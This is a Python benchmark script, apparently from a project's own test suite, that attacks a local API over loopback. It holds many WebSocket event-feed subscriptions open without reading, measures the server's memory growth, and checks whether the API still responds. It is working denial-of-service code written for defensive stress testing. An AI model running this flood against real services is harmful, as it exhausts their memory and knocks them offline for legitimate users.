"""Attack (loopback only): N event-feed subscribers that complete the WebSocket upgrade and
then never read a byte, while events flow (e.g. a DM flood run beside it). Prints the
victim's RSS before and after.

python bench/atk3_feed_hold.py --api-port P --token FILE --pid PID --subs 64 --seconds 20
"""
from __future__ import annotations

import argparse
import base64
import json
import os
import socket
import time


def rss_kib(pid: int) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return -1


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--api-port", type=int, required=True)
    ap.add_argument("--token", required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--subs", type=int, default=64)
    ap.add_argument("--seconds", type=float, default=20.0)
    ap.add_argument("--rcvbuf", type=int, default=4096)
    a = ap.parse_args()
    token = open(a.token).read().strip()
    before = rss_kib(a.pid)
    socks, answers = [], []
    for _ in range(a.subs):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, a.rcvbuf)
        s.connect(("127.0.0.1", a.api_port))
        key = base64.b64encode(os.urandom(16)).decode()
        s.sendall((f"GET /v1/events?token={token} HTTP/1.1\r\nHost: 127.0.0.1:{a.api_port}\r\n"
                   f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                   "Sec-WebSocket-Version: 13\r\n\r\n").encode())
        s.settimeout(5)
        answers.append(s.recv(12).decode(errors="replace"))
        socks.append(s)
    samples = []
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.seconds:
        time.sleep(1.0)
        samples.append(rss_kib(a.pid))
    extra = socket.socket()
    extra.connect(("127.0.0.1", a.api_port))
    extra.sendall(f"GET /v1/node HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
    extra.settimeout(10)
    status = extra.recv(12).decode(errors="replace")
    for s in socks:
        s.close()
    print(json.dumps({"subs": len(socks), "first_answer": answers[0], "answers_101": sum("101" in x for x in answers),
                      "rss_kib_before": before, "rss_kib_max": max(samples), "rss_kib_after": samples[-1],
                      "api_still_answers": status}))


if __name__ == "__main__":
    main()
